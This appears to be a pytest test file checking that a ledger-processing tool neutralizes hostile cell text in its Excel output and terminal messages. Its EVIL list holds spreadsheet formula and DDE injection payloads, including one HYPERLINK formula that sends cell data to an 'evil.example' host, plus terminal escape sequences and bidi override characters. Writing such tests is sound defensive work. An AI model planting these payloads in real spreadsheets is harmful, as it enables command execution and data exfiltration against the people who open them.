"""Words of a ledger stay words: in the pack, in the terminal, in JSON, in messages."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

EVIL = [
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"pay here")',
    "{=SUM(A1:A9)}",
    "http://evil.example/login",
    "internal:Cover!A1",
    "external:c:\\evil.xlsx",
    "mailto:thief@evil.example",
    "[red]money[/red] [link=http://evil.example]here[/link]",
    "\x1b[31mred\x1b]0;title\x07 \x9b31m",
    "abc\u202ecba\u2066x\u2069",
    "&P&N&D&A&Z",
    "</t></is><f>1+1</f>",
    "_x0041_&amp;<b>",
    "x" * 300,
]
ORDERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HEADERS = ["Invoice", "Customer", "Name", "Entity", "Sales rep", "Collector", "Invoice date", "Due date", "Amount"]


def _write(path: Path, words: list[str], name: str) -> Path:
    """A ledger whose every word is one of `words`; amounts and dates stay the same whatever the words."""
    import xlsxwriter

    with xlsxwriter.Workbook(path, {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        sheet = book.add_worksheet(name)
        for column, header in enumerate([*HEADERS, words[0]]):
            sheet.write_string(0, column, header)
        for row, word in enumerate(words, 1):
            for column, text in enumerate((f"{word}{row}", f"{row:02d}{word}", word, words[0], word, word)):
                sheet.write_string(row, column, text)
            sheet.write_string(row, 6, "2025-01-05")
            sheet.write_string(row, 7, "2025-02-04" if row % 2 else "2025-01-01")
            sheet.write_number(row, 8, 100 * row)
            sheet.write_string(row, 9, word)
        table = {"columns": [{"header": header} for header in [*HEADERS, words[0]]], "name": "tblInvoices"}
        sheet.add_table(0, 0, len(words), 9, table)
    return path


@pytest.fixture
def ledgers(tmp_path: Path) -> tuple[Path, Path]:
    """A ledger of evil words, and the same with harmless ones."""
    # Of the same lengths: long names get a column of shortened ones for the axes of charts.
    plain = [f"word{number:02d}".ljust(len(word), "d") for number, word in enumerate(EVIL)]
    return (
        _write(tmp_path / "=cmd 'evil' & co.xlsx", EVIL, "=SUM(1)|cmd'!A1"),
        _write(tmp_path / "plain.xlsx", plain, "Ledger"),
    )


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _found(parts: dict[str, bytes], tags: tuple[str, ...]) -> list[str]:
    """The texts and attributes of elements that a spreadsheet program computes or follows."""
    return [
        f"{name} {element.text}"
        for name, content in sorted(parts.items())
        if name.endswith((".xml", ".rels", ".vml"))
        for element in ElementTree.fromstring(content).iter()
        if element.tag.rpartition("}")[2] in tags
    ]


COMPUTED = ("f", "formula", "formula1", "formula2", "calculatedColumnFormula", "totalsRowFormula", "definedName")


def test_no_formula_of_the_pack_depends_on_a_word_of_the_ledger(
    bounded: Callable[..., Any], ledgers: tuple[Path, Path], tmp_path: Path
) -> None:
    formulas = []
    for number, ledger in enumerate(ledgers):
        ended = bounded("close", ledger, "--as-of", "2025-03-31", "--out", f"{number}.xlsx")
        assert ended.status in (0, 1), ended
        found = _found(_parts(tmp_path / f"{number}.xlsx"), COMPUTED)
        # How many rows a table has may depend on words: what is found wrong with them is one of the tables.
        formulas.append({re.sub(r"(?<=[A-Z$])\d+", "0", formula) for formula in found})

    assert len(formulas[0]) > 3
    assert formulas[0] == formulas[1]


def test_the_pack_links_to_the_ledgers_cells_and_nowhere_else(
    bounded: Callable[..., Any], ledgers: tuple[Path, Path], tmp_path: Path
) -> None:
    assert bounded("close", ledgers[0], "--as-of", "2025-03-31", "--out", "pack.xlsx").status in (0, 1)
    parts = _parts(tmp_path / "pack.xlsx")
    targets = {
        relation.get("Target", "")
        for name, content in parts.items()
        if name.endswith(".rels")
        for relation in ElementTree.fromstring(content)
        if relation.get("TargetMode") == "External"
    }

    assert not [name for name in parts if "externalLink" in name or "vba" in name.lower() or "connections" in name]
    assert all(target.startswith("=cmd%20'evil'%20&%20co.xlsx#") for target in targets), targets
    assert b"ddeLink" not in b"".join(parts.values())


def test_page_headers_and_sheet_names_obey_no_word(
    bounded: Callable[..., Any], ledgers: tuple[Path, Path], tmp_path: Path
) -> None:
    shown = []
    for number, ledger in enumerate(ledgers):
        bounded("close", ledger, "--as-of", "2025-03-31", "--out", f"{number}.xlsx")
        parts = _parts(tmp_path / f"{number}.xlsx")
        headers = _found(parts, ("oddHeader", "oddFooter"))
        assert headers
        shown.append([re.sub("&&", "", each).count("&") for each in headers])
        assert all(len(each.partition(" ")[2]) <= 255 for each in headers)

    assert shown[0] == shown[1]


@pytest.mark.parametrize("command", ["close", "aging", "check", "collectors"])
def test_a_terminal_gets_no_orders(bounded: Callable[..., Any], ledgers: tuple[Path, Path], command: str) -> None:
    ended = bounded(command, ledgers[0], "--as-of", "2025-03-31")

    assert ended.status in (0, 1), ended
    assert not ORDERS.search(ended.out), ORDERS.findall(ended.out)
    assert command != "aging" or "[red]money[/red]" in re.sub(r"\s+", "", ended.out)


def test_json_gives_words_as_they_are_and_a_terminal_no_orders(
    bounded: Callable[..., Any], ledgers: tuple[Path, Path]
) -> None:
    ended = bounded("aging", ledgers[0], "--as-of", "2025-03-31", "--json")
    named = {row["customer_id"][2:] for row in json.loads(ended.out)["rows"]}

    assert {EVIL[0], EVIL[12], "abc\u202ecba\u2066x\u2069"} <= named
    assert not ORDERS.search(ended.out), ORDERS.findall(ended.out)


def test_a_message_gives_a_terminal_no_orders(bounded: Callable[..., Any], tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text(
        "Invoice,Customer,Invoice date,\x9b31mSum of\u202e it all\nA1,C1,2025-01-31,100\n", encoding="utf-8"
    )
    for command in (("aging", "a.csv"), ("aging", "\x1b[31mnone.csv"), ("init", "a.csv", "--yes")):
        ended = bounded(*command)
        assert not ORDERS.search(ended.err + ended.out), ended
